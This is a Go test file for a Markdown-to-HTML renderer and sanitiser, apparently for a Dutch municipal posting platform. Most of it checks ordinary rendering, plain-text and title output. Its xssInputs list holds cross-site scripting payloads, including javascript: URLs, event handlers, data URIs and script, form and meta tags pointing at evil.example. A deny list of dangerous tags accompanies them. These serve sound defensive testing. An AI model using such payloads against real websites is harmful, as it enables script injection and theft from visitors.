package markup

import (
	"fmt"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"
)

func TestHTML(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"empty", "", ""},
		{"paragraph", "Hallo *wereld*, **let op** en ~~oud~~.", "<p>Hallo <em>wereld</em>, <strong>let op</strong> en <del>oud</del>.</p>"},
		{"escapes text", "Tarief < 5 & > 3 \"euro\"", "<p>Tarief &lt; 5 &amp; &gt; 3 &#34;euro&#34;</p>"},
		{"entities", "Caf&eacute; &amp; co &#169;", "<p>Café &amp; co ©</p>"},
		{"hard line break", "regel een  \nregel twee", "<p>regel een<br>\nregel twee</p>"},
		{"atx heading demoted", "# Stormwaarschuwing\n\nBlijf binnen.", "<p><strong>Stormwaarschuwing</strong></p>\n<p>Blijf binnen.</p>"},
		{"setext heading demoted", "Let op\n======", "<p><strong>Let op</strong></p>"},
		{"h6 demoted", "###### klein", "<p><strong>klein</strong></p>"},
		{"link gets rel", "[Lees meer](https://www.rijksoverheid.nl/storm)", `<p><a href="https://www.rijksoverheid.nl/storm" rel="noopener noreferrer">Lees meer</a></p>`},
		{"link title dropped", `[a](https://example.nl "titel")`, `<p><a href="https://example.nl" rel="noopener noreferrer">a</a></p>`},
		{"link query escaped", "[a](https://example.nl/?a=1&b=2)", `<p><a href="https://example.nl/?a=1&amp;b=2" rel="noopener noreferrer">a</a></p>`},
		{"mailto link", "[mail](mailto:info@gemeente.nl)", `<p><a href="mailto:info@gemeente.nl" rel="noopener noreferrer">mail</a></p>`},
		{"linkify url", "Zie https://example.nl/a.", `<p>Zie <a href="https://example.nl/a" rel="noopener noreferrer">https://example.nl/a</a>.</p>`},
		{"linkify www", "Zie www.example.nl nu", `<p>Zie <a href="http://www.example.nl" rel="noopener noreferrer">www.example.nl</a> nu</p>`},
		{"linkify email", "Mail info@gemeente.nl", `<p>Mail <a href="mailto:info@gemeente.nl" rel="noopener noreferrer">info@gemeente.nl</a></p>`},
		{"angle autolink", "<https://example.nl>", `<p><a href="https://example.nl" rel="noopener noreferrer">https://example.nl</a></p>`},
		{"relative link is text", "[pad](/pad) en [anker](#top)", "<p>pad en anker</p>"},
		{"image becomes alt", "![Kaart van de **wijk** & omgeving](kaart.png)", "<p>Kaart van de wijk &amp; omgeving</p>"},
		{"image in link", "[![logo](logo.png)](https://example.nl)", `<p><a href="https://example.nl" rel="noopener noreferrer">logo</a></p>`},
		{"inline raw html dropped", "a <b>vet</b> b", "<p>a vet b</p>"},
		{"html block dropped", "<div>\nblok\n</div>\n\nna", "<p>na</p>"},
		{"code span", "Typ `<b>` & klaar", "<p>Typ <code>&lt;b&gt;</code> &amp; klaar</p>"},
		{"fenced code loses class", "```go\nx := 1 < 2\n```", "<pre><code>x := 1 &lt; 2\n</code></pre>"},
		{"blockquote", "> geciteerd", "<blockquote>\n<p>geciteerd</p>\n</blockquote>"},
		{"unordered list", "- een\n- twee", "<ul>\n<li>een</li>\n<li>twee</li>\n</ul>"},
		{"ordered list keeps start", "2024. Het jaar", "<ol start=\"2024\">\n<li>Het jaar</li>\n</ol>"},
		{"thematic break dropped", "a\n\n---\n\nb", "<p>a</p>\n<p>b</p>"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := HTML(tt.in)
			if err != nil {
				t.Fatalf("HTML: %v", err)
			}
			if string(got) != tt.want {
				t.Errorf("HTML(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
			checkAllowList(t, string(got))
		})
	}
}

// xssInputs are attempts to get script into a page through a post.
var xssInputs = []string{
	"<script>alert(1)</script>",
	"a <script>alert(1)</script> b",
	"<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
	"<img src=x onerror=alert(1)>",
	"a <img src=x onerror=alert(1)> b",
	`<a href="https://example.nl" onclick="alert(1)">x</a>`,
	`<p onmouseover="alert(1)">x</p>`,
	"<iframe src=https://evil.example></iframe>",
	"<svg onload=alert(1)>",
	"<style>body{display:none}</style>",
	"[x](javascript:alert(1))",
	"[x](JaVaScRiPt:alert(1))",
	"[x]( javascript:alert(1) )",
	"[x](java&#x73;cript:alert(1))",
	"[x](javascript&colon;alert(1))",
	"[x](&#106;avascript:alert(1))",
	"[x](vbscript:msgbox(1))",
	"<javascript:alert(1)>",
	"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
	"![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
	"<data:text/html,<script>alert(1)</script>>",
	"[x][r]\n\n[r]: javascript:alert(1)",
	`[x](https://example.nl" onmouseover="alert(1))`,
	`[x](<https://example.nl" onclick="alert(1)>)`,
	"![x\" onerror=\"alert(1)](https://example.nl/a.png)",
	"<!-- <script>alert(1)</script> -->",
	"<a href=\"javascript:alert(1)\">x</a>",
	"```html\n<script>alert(1)</script>\n```",
	"`<script>alert(1)</script>`",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"<object data=x></object><embed src=x>",
	"<form action=https://evil.example><input name=bsn></form>",
	"<meta http-equiv=refresh content=0;url=https://evil.example>",
	"<base href=https://evil.example/>",
	"<div style=\"background:url(javascript:alert(1))\">x</div>",
}

func TestHTMLRejectsXSS(t *testing.T) {
	for _, in := range xssInputs {
		t.Run(in, func(t *testing.T) {
			got, err := HTML(in)
			if err != nil {
				t.Fatalf("HTML: %v", err)
			}
			checkAllowList(t, string(got))
			lower := strings.ToLower(string(got))
			for _, bad := range []string{"<script", "<img", "<iframe", "<svg", "<style", "<object", "<embed", "<form", "<input", "<meta", "<base", "<!--"} {
				if strings.Contains(lower, bad) {
					t.Errorf("HTML(%q) = %q, contains %q", in, got, bad)
				}
			}
		})
	}
}

// allowedAttrs lists, per allowed element, the attributes it may carry.
var allowedAttrs = map[string][]string{
	"p": nil, "br": nil, "em": nil, "strong": nil, "del": nil, "code": nil, "pre": nil,
	"blockquote": nil, "ul": nil, "li": nil,
	"ol": {"start"},
	"a":  {"href", "rel"},
}

// checkAllowList fails the test unless every element and attribute in s is
// on Plein's allow-list, every link has an allowed scheme and the right rel,
// and no text sits in a context where a browser would run it.
func checkAllowList(t *testing.T, s string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(s))
	for {
		tt := z.Next()
		switch tt {
		case html.ErrorToken:
			return
		case html.CommentToken, html.DoctypeToken:
			t.Errorf("%q: unexpected %v token %q", s, tt, z.Token().Data)
		case html.StartTagToken, html.SelfClosingTagToken, html.EndTagToken:
			tok := z.Token()
			attrs, ok := allowedAttrs[tok.Data]
			if !ok {
				t.Errorf("%q: element %q is not allowed", s, tok.Data)
				continue
			}
			if tok.Data == "a" && tt == html.StartTagToken {
				checkLink(t, s, tok)
			}
			for _, a := range tok.Attr {
				found := false
				for _, name := range attrs {
					found = found || a.Key == name
				}
				if !found || a.Namespace != "" {
					t.Errorf("%q: attribute %q on %q is not allowed", s, a.Key, tok.Data)
				}
			}
		}
	}
}

func checkLink(t *testing.T, s string, tok html.Token) {
	t.Helper()
	var href, rel string
	for _, a := range tok.Attr {
		switch a.Key {
		case "href":
			href = a.Val
		case "rel":
			rel = a.Val
		}
	}
	if !strings.HasPrefix(href, "http://") && !strings.HasPrefix(href, "https://") && !strings.HasPrefix(href, "mailto:") {
		t.Errorf("%q: link with href %q", s, href)
	}
	if rel != "noopener noreferrer" {
		t.Errorf("%q: link with rel %q", s, rel)
	}
}

func FuzzHTML(f *testing.F) {
	for _, in := range xssInputs {
		f.Add(in)
	}
	f.Add("# Kop\n\n[a](https://example.nl) *b* ~~c~~ `d`\n\n- e\n1. f\n\n> g")
	f.Fuzz(func(t *testing.T, in string) {
		got, err := HTML(in)
		if err != nil {
			t.Fatalf("HTML: %v", err)
		}
		checkAllowList(t, string(got))
		_ = PlainText(in)
		for _, n := range []int{1, 5, 40} {
			if title := Title(in, n); utf8.RuneCountInString(title) > n {
				t.Errorf("Title(%q, %d) = %q, longer than %d runes", in, n, title, n)
			}
		}
	})
}

func TestPlainText(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"empty", "", ""},
		{"whitespace only", " \n\t\n", ""},
		{"markup removed", "# Let op\n\nDe *weg* is **dicht** ~~open~~.", "Let op\nDe weg is dicht open."},
		{"whitespace collapsed", "  veel   ruimte\ttussen\nwoorden  ", "veel ruimte tussen woorden"},
		{"hard break is a new line", "een  \ntwee", "een\ntwee"},
		{"entities and escapes", "Caf&eacute; &amp; \\*geen nadruk\\* &lt;b&gt;", "Café & *geen nadruk* <b>"},
		{"special characters kept as text", "Tarief < 5 & \"euro\"", `Tarief < 5 & "euro"`},
		{"link text", "[Lees meer](https://example.nl) of https://example.nl/b", "Lees meer of https://example.nl/b"},
		{"image alt", "![Kaart van de wijk](kaart.png)", "Kaart van de wijk"},
		{"raw html left out", "a <b>vet</b> b\n\n<div>\nblok\n</div>", "a vet b"},
		{"code", "Typ `x  :=\n1` nu\n\n```\nregel 1\n  regel 2\n```", "Typ x := 1 nu\nregel 1\nregel 2"},
		{"list items", "- een\n- twee\n\n> citaat", "een\ntwee\ncitaat"},
		{"nbsp collapsed", "a&nbsp;&nbsp;b", "a b"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := PlainText(tt.in); got != tt.want {
				t.Errorf("PlainText(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestPlainTextWithLinks(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"link keeps its address", "[Lees meer](https://example.nl/a) of https://example.nl/b", "Lees meer (https://example.nl/a) of https://example.nl/b"},
		{"text that is the address", "[https://example.nl](https://example.nl)", "https://example.nl"},
		{"emphasis in the link text", "[de *nieuwe* regels](https://example.nl/r?a=1&b=2)", "de nieuwe regels (https://example.nl/r?a=1&b=2)"},
		{"mail address", "[mail ons](mailto:info@example.nl)", "mail ons (mailto:info@example.nl)"},
		{"relative or odd address left out", "[hier](/pagina) en [daar](javascript:alert(1))", "hier en daar"},
		{"no links: as PlainText", "# Let op\n\nDe *weg* is dicht.", "Let op\nDe weg is dicht."},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := PlainTextWithLinks(tt.in); got != tt.want {
				t.Errorf("PlainTextWithLinks(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestTitle(t *testing.T) {
	tests := []struct {
		name string
		in   string
		n    int
		want string
	}{
		{"fits", "Stormwaarschuwing", 40, "Stormwaarschuwing"},
		{"exactly n", "abcde", 5, "abcde"},
		{"first line only", "# Storm\n\nBlijf binnen.", 40, "Storm"},
		{"markup removed", "**Let op:** de weg is dicht", 40, "Let op: de weg is dicht"},
		{"cut at word boundary", "De weg is dicht wegens storm", 12, "De weg is…"},
		{"boundary right after limit", "De weg is dicht", 10, "De weg is…"},
		{"trailing comma dropped", "Eerst dit, dan dat", 12, "Eerst dit…"},
		{"trailing dash dropped", "Storm – wegen dicht", 9, "Storm…"},
		{"dutch diaeresis counts as one rune", "Geëvalueerd en geëindigd", 13, "Geëvalueerd…"},
		{"decomposed diaeresis kept whole", "Gee\u0308valueerd", 5, "Gee\u0308…"},
		{"decomposed diaeresis not split", "Gee\u0308valueerd", 4, "Ge…"},
		{"emoji", "🌧️ Regen 🌧️ en wind", 10, "🌧️ Regen…"},
		{"long word cut hard", "Hoogwaterbeschermingsprogramma", 10, "Hoogwater…"},
		{"zwj sequence not split", "👩\u200d👩\u200d👧abc", 3, "…"},
		{"flag not split", "🇳🇱🇧🇪xyz", 2, "…"},
		{"flag pair kept", "🇳🇱🇧🇪xyz", 3, "🇳🇱…"},
		{"skin tone not split", "👋🏽hallo", 2, "…"},
		{"n is one", "lange titel", 1, "…"},
		{"n is zero", "lange titel", 0, ""},
		{"empty source", "", 10, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Title(tt.in, tt.n)
			if got != tt.want {
				t.Errorf("Title(%q, %d) = %q, want %q", tt.in, tt.n, got, tt.want)
			}
			if c := utf8.RuneCountInString(got); c > tt.n && tt.n >= 0 {
				t.Errorf("Title(%q, %d) has %d runes", tt.in, tt.n, c)
			}
			if !utf8.ValidString(got) {
				t.Errorf("Title(%q, %d) = %q is not valid UTF-8", tt.in, tt.n, got)
			}
		})
	}
}

func TestHTMLConcurrent(t *testing.T) {
	inputs := make([]string, 16)
	want := make([]string, len(inputs))
	for i := range inputs {
		inputs[i] = fmt.Sprintf("# Bericht %d\n\n%s [link %d](https://example.nl/%d)", i, strings.Repeat("woord ", i*50), i, i)
		h, err := HTML(inputs[i])
		if err != nil {
			t.Fatal(err)
		}
		want[i] = string(h)
	}
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			for j := range 20 {
				i := j % len(inputs)
				h, err := HTML(inputs[i])
				if err != nil || string(h) != want[i] {
					t.Errorf("concurrent HTML(%d) = %q, %v; want %q", i, h, err, want[i])
					return
				}
				if got, want := PlainText(inputs[i]), PlainText(inputs[i]); got != want {
					t.Errorf("concurrent PlainText differs: %q, %q", got, want)
					return
				}
			}
		})
	}
	wg.Wait()
}

// benchPost is a typical post of about 1,500 characters.
var benchPost = func() string {
	s := `# Stormwaarschuwing voor zaterdag

Het KNMI verwacht zaterdag **zware windstoten** tot 110 km/u. De gemeente neemt maatregelen:

- de markt op het *Plein* gaat niet door;
- parken en begraafplaatsen zijn gesloten van 08.00 tot 20.00 uur;
- losliggende spullen in de tuin graag vastzetten of binnenzetten.

Meer informatie staat op [onze website](https://www.gemeente.example/storm) en op https://www.knmi.nl/nederland-nu/weer/waarschuwingen.

> Blijf zoveel mogelijk binnen en ga alleen de weg op als het echt nodig is.

Schade melden kan via ` + "`14 020`" + ` of mail naar meldingen@gemeente.example. Bij gevaar: bel **112**.
`
	for len(s) < 1500 {
		s += "\nWe houden u via deze pagina op de hoogte & zetten updates ~~niet~~ ook in de nieuwsbrief. Geëvalueerd wordt daarna."
	}
	return s[:1500]
}()

func BenchmarkHTML(b *testing.B) {
	b.ReportAllocs()
	b.SetBytes(int64(len(benchPost)))
	for b.Loop() {
		if _, err := HTML(benchPost); err != nil {
			b.Fatal(err)
		}
	}
}

func TestSanitizeHTML(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`<p>Hoi <script>alert(1)</script><a href="javascript:x">klik</a></p>`, `<p>Hoi klik</p>`},
		{`<p><span class="h-card"><a href="https://social.example/@eva" class="u-url mention">@eva</a></span> dank!</p>`,
			`<p><span class="h-card"><a href="https://social.example/@eva" class="u-url mention" rel="nofollow noreferrer">@eva</a></span> dank!</p>`},
		{`<p><span class="x" style="color:red"><a href="https://a.example/" class="evil">a</a></span></p>`,
			`<p><span><a href="https://a.example/" rel="nofollow noreferrer">a</a></span></p>`},
		{`<img src=x onerror=alert(1)>`, ``},
	} {
		if got := string(SanitizeHTML(tc.in)); got != tc.want {
			t.Errorf("SanitizeHTML(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestHTMLText(t *testing.T) {
	for in, want := range map[string]string{
		"<p>Het was <strong>geen</strong> reclame.</p><p>Echt &amp; waar</p>": "Het was geen reclame. Echt & waar",
		"platte tekst": "platte tekst",
		`<script>alert(1)</script><a href="x">link</a>`: "link",
		"": "",
	} {
		if got := HTMLText(in); got != want {
			t.Errorf("HTMLText(%q) = %q, want %q", in, got, want)
		}
	}
}
